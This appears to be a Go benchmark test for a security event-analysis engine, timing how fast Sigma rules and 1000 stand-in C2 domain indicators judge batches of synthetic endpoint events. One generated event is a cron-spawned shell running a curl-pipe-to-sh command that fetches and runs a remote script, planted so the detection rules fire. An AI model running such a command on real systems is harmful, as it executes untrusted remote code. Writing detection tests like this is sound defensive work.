package analyse_test

import (
	"fmt"
	"syscall"
	"testing"
	"time"

	"noroshi/analyse"
	"noroshi/analyse/sigma"
	"noroshi/content"
	"noroshi/event"
	"noroshi/ident"
	"noroshi/label"
	"noroshi/ledger/ledgertest"
	"noroshi/observable"
)

// everyday is a batch of what nodes mostly send, with one event in a hundred
// that a rule finds.
func everyday(from uint64) []*event.Event {
	var out []*event.Event
	for i := range uint64(500) {
		seq := from + i
		switch {
		case i%100 == 99:
			out = append(out, launch(orgA, seq, "/usr/bin/dash", "/usr/sbin/cron", "sh -c curl -fsSL http://198.51.100.7/x.sh | sh"))
		case i%3 == 0:
			out = append(out, launch(orgA, seq, "/usr/bin/python3.11", "/usr/bin/bash",
				fmt.Sprintf("/usr/bin/python3 /opt/app/worker.py --queue mail --id %d --config /etc/app/worker.yml --log-level info", seq)))
		case i%3 == 1:
			out = append(out, query(orgA, seq, fmt.Sprintf("edge-%d.cdn.example.com", seq%977)))
		default:
			e := base(orgA, seq)
			e.ClassUID, e.ActivityID = event.NetworkActivity, event.NetworkOpen
			e.Actor = &event.Actor{Process: &event.Process{PID: 9, File: &event.File{Path: "/usr/bin/python3.11"}}}
			e.DstEndpoint = &event.Endpoint{IP: "192.0.2.10", Port: 443}
			e.ConnectionInfo = &event.ConnectionInfo{DirectionID: event.DirectionOutbound, ProtocolName: "tcp"}
			out = append(out, e)
		}
		out[len(out)-1].Device = &event.Device{Hostname: "h", OS: &event.OS{TypeID: 200}}
	}
	return out
}

// BenchmarkJudge is the whole judgement with the rules of content/, the ledger
// on a disk included. One operation is a batch of 500 events.
func BenchmarkJudge(b *testing.B) {
	r := newRig(b, ledgertest.SQLite(b), analyse.Config{})
	set := &sigma.Set{}
	if refused, err := set.LoadFS(content.Rules()); err != nil || len(refused) > 0 {
		b.Fatal(err, refused)
	}
	r.use(b, analyse.Config{}, set)
	for n := range 1000 {
		r.match.Put(active(ident.ID(fmt.Sprintf("ind_%d", n)), orgA, label.TLPGreen, observable.Observable{Kind: observable.Domain, Value: fmt.Sprintf("c2-%d.example.net", n)}))
	}
	seq := uint64(1)
	before := cpu(b)
	for b.Loop() {
		events := everyday(seq)
		seq += 500
		found, err := r.Judge(b.Context(), events)
		if err != nil {
			b.Fatal(err)
		}
		if seq == 501 && len(found) != 1 {
			b.Fatalf("the batch makes %d findings, not one", len(found))
		}
	}
	b.ReportMetric(float64(b.N)*500/(cpu(b)-before).Seconds(), "events/cpu-s")
}

// cpu is the processor time of the test, the collector of garbage included.
func cpu(b *testing.B) time.Duration {
	var u syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
		b.Fatal(err)
	}
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}
